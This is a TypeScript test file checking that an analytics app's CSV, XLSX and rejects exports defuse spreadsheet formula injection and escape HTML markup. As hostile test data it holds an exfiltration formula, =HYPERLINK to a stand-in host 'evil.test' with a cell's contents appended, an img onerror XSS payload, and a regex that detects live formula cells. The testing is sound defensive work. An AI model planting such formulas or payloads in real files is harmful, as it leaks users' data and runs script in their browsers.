import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HOSTILE_IDS, HOSTILE_NAMES, hostileSalesCsv } from '../../test/helpers/hostile';
import { resolveParams } from '../analytics/params';
import { runAll } from '../analytics/run-all';
import { NodeEngine } from '../engine/node';
import { fromBytes } from '../ingest/input';
import { inspectFile, loadFiles } from '../ingest/load';
import { rejectsToCsv } from '../ingest/rejects';
import type { LoadReport } from '../ingest/types';
import { resultFiles } from '../results/writer';
import { textString, toCsv } from './csv';
import { toXlsx } from './xlsx-writer';

/** A cell a spreadsheet would evaluate: text starting with = + - @ tab or CR that is not a plain number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

let db: NodeEngine;
let reports: LoadReport[];
beforeAll(async () => {
  db = await NodeEngine.start();
  const file = fromBytes(new TextEncoder().encode(hostileSalesCsv()), 'hostile.csv');
  reports = await loadFiles(db, [await inspectFile(file)]);
});
afterAll(async () => {
  await db?.close();
});

describe('hostile names and ids in exports', () => {
  it('load as the very text they are', async () => {
    const rows = await db.rows<{ id: string; name: string }>(
      'SELECT DISTINCT customer_id AS id, customer_name AS name FROM sales ORDER BY id',
    );
    expect(rows.map((r) => r.name).sort()).toEqual([...HOSTILE_NAMES].sort());
    expect(rows.map((r) => r.id).sort()).toEqual([...HOSTILE_IDS].sort());
  });

  it('every result file (CSV) has no cell a spreadsheet would run, and keeps the text after the guard', async () => {
    const all = await runAll(db, resolveParams({}));
    const files = resultFiles(all!, reports).filter((f) => f.name.endsWith('.csv'));
    expect(files.length).toBeGreaterThan(3);
    let seen = 0;
    for (const f of files) {
      const cells = Papa.parse<string[]>(textString(f.content).trim()).data.flat();
      for (const c of cells) expect(live(c), `${f.name}: ${c}`).toBe(false);
      seen += cells.filter((c) => c === "'=1+1" || c === "'@A1").length;
    }
    expect(seen, 'the defused ids are there, prefixed with an apostrophe').toBeGreaterThan(0);
  });

  it('a table export (CSV and XLSX) defuses names and escapes markup', async () => {
    const rows = HOSTILE_NAMES.map((n, i) => [HOSTILE_IDS[i], n, i * 10 - 5]);
    const csv = Papa.parse<string[]>(toCsv(['id', 'name', 'value'], rows).trim()).data.flat();
    for (const c of csv) expect(live(c), c).toBe(false);
    expect(csv).toContain('\'=HYPERLINK("http://evil.test/?d="&A1,"Click")');
    expect(csv).toContain('-5'); // a negative number stays a number
    // Every part of the workbook (the library keeps text in shared strings).
    const sheet = Object.values(unzipSync(await toXlsx('t', ['id', 'name', 'value'], rows)))
      .map((part) => strFromU8(part))
      .join('');
    expect(sheet).not.toContain('<f>'); // no formula cell
    expect(sheet).not.toContain('<img');
    expect(sheet).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(sheet).toContain("'@SUM(1)");
    expect(sheet).toContain('<v>-5</v>');
  });

  it('the rejects download defuses the original cells', () => {
    const report: LoadReport = {
      ...reports[0],
      headers: ['Order Date', 'Customer ID', 'Amount'],
      rejects: [{ line: 7, reason: 'bad_date', cells: ['=HYPERLINK("x")', '@SUM(1)', '+1+1'] }],
    };
    const cells = Papa.parse<string[]>(rejectsToCsv(report).trim()).data.flat();
    for (const c of cells) expect(live(c), c).toBe(false);
  });
});
